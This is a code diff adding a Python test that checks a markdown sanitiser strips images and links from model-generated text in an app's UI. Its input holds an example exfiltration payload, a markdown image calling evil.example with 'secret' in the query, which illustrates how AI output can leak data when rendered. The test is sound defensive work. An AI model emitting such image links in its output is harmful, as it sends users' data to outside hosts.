@@ -80,3 +80,11 @@ def test_settings_shows_workspace_and_models(home: Path) -> None:
     at = _app("ui/settings.py")
     text = " ".join(m.value for m in at.markdown)
     assert str(home) in text and "bundled:smollm2-135m" in text
+
+
+def test_model_text_cannot_fetch_images_or_render_links() -> None:
+    from app.ui.common import safe_markdown
+
+    out = safe_markdown("Done ![pixel](http://evil.example/?q=secret) see [docs](http://a.example/x)")
+    assert "![" not in out and "](" not in out
+    assert "[image: pixel]" in out and "docs (http://a.example/x)" in out
